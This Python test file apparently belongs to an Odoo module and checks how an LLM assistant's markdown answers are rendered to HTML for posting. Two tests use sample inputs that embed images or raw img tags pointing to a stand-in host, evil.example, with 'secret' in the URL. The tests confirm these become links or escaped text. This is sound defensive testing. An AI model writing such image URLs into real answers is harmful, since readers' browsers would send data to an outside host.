"""What the assistant's answers become as HTML where they are posted (live chat, Log as note, an
HTML field): the structure the chat's own markdown-it renderer gives, lists included."""

import re

from odoo.tests import BaseCase, TransactionCase, tagged

from ..models.llm_thread_seed import markdown_html


@tagged("post_install", "-at_install")
class TestMarkdownHtml(BaseCase):

    def html(self, text):
        """``markdown_html(text)`` without the white space between tags."""
        return re.sub(r"\s*(<[^>]+>)\s*", r"\1", str(markdown_html(text)))

    def test_lists_as_the_chat_renders_them(self):
        for text, expected in (
            ("We offer:\n- Shipping\n- Returns",
             "<p>We offer:</p><ul><li>Shipping</li><li>Returns</li></ul>"),
            ("Options:\n* one\n* two", "<p>Options:</p><ul><li>one</li><li>two</li></ul>"),
            ("We offer:\n- Shipping\n  - by sea\n  - by air\n- Returns",
             "<p>We offer:</p><ul><li>Shipping<ul><li>by sea</li><li>by air</li></ul></li>"
             "<li>Returns</li></ul>"),
            ("Steps:\n1. Open\n2. Click\n   1. here\n   2. there\n3. Done",
             "<p>Steps:</p><ol><li>Open</li><li>Click<ol><li>here</li><li>there</li></ol></li>"
             "<li>Done</li></ol>"),
            ("- a\n   - b\n      - c\n- d",
             "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>"),
            ("- a\n    - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
            ("3. three\n4. four", '<ol start="3"><li>three</li><li>four</li></ol>'),
            # A number after text starts no list unless it is 1 (CommonMark).
            ("In\n2026. was a good year", "<p>In\n2026. was a good year</p>"),
            ("Text\n\n- a\n- b\n\nAfter", "<p>Text</p><ul><li>a</li><li>b</li></ul><p>After</p>"),
        ):
            with self.subTest(text=text):
                self.assertEqual(self.html(text), expected)

    def test_code_is_kept(self):
        self.assertEqual(
            self.html("Code:\n```\n- not a list\n  - nor this\n```\n- a list"),
            "<p>Code:</p><pre><code>- not a list\n  - nor this</code></pre>"
            "<ul><li>a list</li></ul>")
        self.assertEqual(self.html("Example:\n\n    - indented code"),
                         "<p>Example:</p><pre><code>- indented code</code></pre>")

    def test_an_image_of_another_site_is_a_link(self):
        """Whoever reads the posted answer would fetch it, with what the model wrote into its
        URL; this Odoo's own images show."""
        html = self.html("![chart](/web/image/12) ![leak](https://evil.example/p.png?q=secret)")
        self.assertIn('<img alt="chart" src="/web/image/12"', html)
        self.assertNotIn('<img alt="leak"', html)
        self.assertIn('<a href="https://evil.example/p.png?q=secret" rel="noopener noreferrer" '
                      'target="_blank">🖼️ leak</a>', html)

    def test_html_the_model_writes_is_text_as_in_the_chat(self):
        """The chat's markdown-it has ``html: false``: an answer's own tags show as text. Passed
        through, a raw image of another site would be fetched by whoever reads the posted
        answer (a live chat visitor, an operator), the model's URL included."""
        for text in ('<img src="https://evil.example/x.png?d=secret">',
                     'See <img src="https://evil.example/x.png?d=secret"> here',
                     '<div>\n<img src="https://evil.example/x.png?d=secret">\n</div>'):
            with self.subTest(text=text):
                html = str(markdown_html(text))
                self.assertNotIn("<img", html)
                self.assertIn("&lt;img src=", html)
        self.assertEqual(self.html("Use <b>bold</b> & <br> tags"),
                         "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;br&gt; tags</p>")
        # Markdown's own autolinks and entities stay.
        self.assertEqual(self.html("<https://www.odoo.com> &copy;"),
                         '<p><a href="https://www.odoo.com">https://www.odoo.com</a>&copy;</p>')

    def test_task_lists_and_footnotes_as_the_chat_shows_them(self):
        html = self.html("- [x] Check the invoices\n- [ ] Call Deco Addict\n\n"
                         "A footnote[^1].\n\n[^1]: The footnote text.")
        self.assertIn("<li>☑ Check the invoices</li><li>☐ Call Deco Addict</li>", html)
        self.assertNotIn("[^1]", html)
        self.assertIn("The footnote text.", html)

    def test_formulas_as_their_tex(self):
        """The chat typesets them (as MathML, which mail's sanitizer strips): posted, they
        read as TeX, as code; prices and code spans stay as written."""
        self.assertEqual(
            self.html("Mass: $E = mc^2$, \\(a+b\\) and\n\n$$\n\\frac{1}{2}\n$$"),
            "<p>Mass:<code>E = mc^2</code>,<code>a+b</code>and</p><p><code>\\frac{1}{2}</code></p>")
        self.assertEqual(self.html("From $5 to $10, `$x$`"),
                         "<p>From $5 to $10,<code>$x$</code></p>")


@tagged("post_install", "-at_install")
class TestMarkdownNote(TransactionCase):

    def test_a_quote_is_not_folded_as_a_reply(self):
        """Mail folds a ``<blockquote>`` under "Read More" as the quoted email of a reply: a
        quote of the answer is posted as a block mail shows."""
        partner = self.env["res.partner"].create({"name": "Quote Reader"})
        note = partner.message_post(body=markdown_html("Said:\n\n> Ship on Monday.\n\nDone."),
                                    subtype_xmlid="mail.mt_note")
        self.assertNotIn("data-o-mail-quote", note.body)
        self.assertIn("Ship on Monday.", note.body)
        self.assertIn("border-left-style:solid", note.body, "drawn as a quote")
